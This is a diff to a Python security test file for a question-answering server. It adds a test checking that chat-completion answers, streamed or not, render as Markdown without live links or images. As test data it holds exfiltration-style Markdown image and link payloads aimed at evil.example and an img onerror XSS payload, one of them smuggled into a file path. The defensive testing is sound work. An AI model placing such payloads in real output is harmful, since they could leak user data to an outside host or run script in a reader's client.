@@ -1,16 +1,21 @@
 """What pages of other sites, other machines, hostile documents and hostile clients can do to `qa serve`: nothing."""
 
+import json
 import re
-from collections.abc import Iterator
+from collections.abc import Iterator, Sequence
+from dataclasses import replace
 from pathlib import Path
 from typing import Any
 
 import pytest
 from bs4 import BeautifulSoup
+from markdown_it import MarkdownIt
 from starlette.testclient import TestClient
 from support import serving
 from support.serving import QUESTION
 
+from qa.answer.events import Done, Judged, Stated
+from qa.records import Answer, Quote, Statement
 from qa.serve.access import COOKIE, Access
 from qa.serve.engine import Engine
 from qa.serve.guard import POLICY
@@ -205,8 +210,6 @@ def test_deep_json_is_a_problem(client: TestClient) -> None:
 
 @pytest.mark.parametrize("text", ["\ud800", "\x00", "a\ud800b \udfff", "\u202e"])
 def test_strange_characters_are_answered_like_others(client: TestClient, text: str) -> None:
-    import json
-
     for path, body in (
         ("ask", {"question": text}),
         ("search", {"query": text, "where": [f"{text}=1"]}),
@@ -257,6 +260,48 @@ def test_an_event_carries_the_same_text_as_text(client: TestClient) -> None:
                        headers={"Accept": "text/event-stream"})  # fmt: skip
     assert "&lt;script&gt;" in done.text
     assert "<script>alert" not in done.text.replace("\\u003c", "<")
+
+
+LIVE = (
+    "![x](http://evil.example/?q=1) [x](http://evil.example) <http://evil.example> http://evil.example www.evil.example "
+    "<img src=x onerror=alert(1)> ![x][1] a@evil.example\n\n[1]: http://evil.example"
+)
+
+
+@pytest.mark.parametrize("stream", [False, True])
+def test_nothing_that_is_said_is_live_in_a_chat_client(engine: Engine, stream: bool) -> None:
+    """Chat clients render an answer as Markdown: an image in it would call home without a click."""
+    quote = Quote(1, "travel/<img src=x onerror=alert(1)> ![x](http://evil.example).md", 0, len(LIVE), LIVE, 1, None,
+                  "A", "0" * 64)  # fmt: skip
+    said = Statement(LIVE, (1,), verdict="unsupported", problems=(LIVE,))
+    index = {"generation": "g", "model": "m"}
+    answered = Answer("q", "answered", None, "llm", (said,), (), (quote,), (), 0.5, "m", "0", index, {}, {},
+                      missing=(LIVE,))  # fmt: skip
+    silent = replace(answered, status="abstained", statements=(), quotes=(), closest=(quote,), reason="no_evidence")
+    made = Engine(engine.session)
+    made._assistant = engine.assistant
+    for answer in (answered, silent):
+        events: list[Any] = [Stated(said, (quote,)), Judged(1, said), Done(answer)]
+
+        async def told(*_: Any, events: Sequence[Any] = events) -> Any:
+            for event in events:
+                yield event
+
+        made.stream = told  # type: ignore[method-assign]
+        body = {"messages": [{"role": "user", "content": "x"}], "stream": stream}
+        done = serving.client(made).post("/v1/chat/completions", json=body)
+        records = [json.loads(data) for _, data in serving.events(done.text) if data != "[DONE]"] if stream else [
+            done.json()
+        ]  # fmt: skip
+        parts = [choice.get("delta", choice.get("message")) for record in records for choice in record["choices"]]
+        text = "".join(part.get("content", "") for part in parts)
+        assert "[1]" in text
+        page = MarkdownIt().enable("table").render(text)
+        soup = BeautifulSoup(page, "html.parser")
+        assert not soup.find_all(["img", "a"]), page
+        assert "[1] “![x](http://evil.example/?q=1)" in soup.get_text()
+        bare = re.sub(r"\\([^\w\s])", r"\1", text).split("<!-- -->")
+        assert not any(re.search(r"\w://|www\.|\w@\w", piece) for piece in bare)
 
 
 def test_no_path_leaves_the_workspace(engine: Engine, tmp_path: Path) -> None:
